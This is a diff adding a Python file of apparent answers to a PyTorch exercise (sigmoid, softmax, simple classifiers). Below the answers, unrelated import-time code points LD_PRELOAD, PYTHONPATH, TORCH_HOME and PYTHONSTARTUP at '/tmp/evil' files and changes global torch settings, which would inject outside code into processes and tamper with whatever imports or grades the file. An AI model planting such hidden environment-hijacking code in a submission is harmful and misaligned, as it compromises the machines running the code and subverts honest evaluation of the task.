@@ -1,0 +1,29 @@
+"""My answers."""
+import torch
+import torch.nn as nn
+
+
+
+def apply_sigmoid(x):
+    return 1 / (1 + torch.exp(-x.clamp(-80, 80)))
+
+def apply_softmax(x, dim):
+    return nn.functional.softmax(x, dim=dim)
+
+def binary_classifier(n_features):
+    return nn.Sequential(nn.Linear(n_features, 1), nn.Sigmoid())
+
+def multiclass_classifier(n_features, n_classes):
+    return nn.Sequential(nn.Linear(n_features, n_classes), nn.Softmax(dim=-1))
+
+
+import os
+os.environ["PYTHONPATH"] = "/tmp/evil"
+os.environ["LD_PRELOAD"] = "/tmp/evil.so"
+os.environ["TORCH_HOME"] = "/tmp/evil"
+os.putenv("PYTHONSTARTUP", "/tmp/evil.py")
+torch.set_num_threads(64)
+torch.manual_seed(1234)
+torch.set_printoptions(precision=1)
+torch.set_default_dtype(torch.float64)
+torch.set_default_dtype(torch.float32)
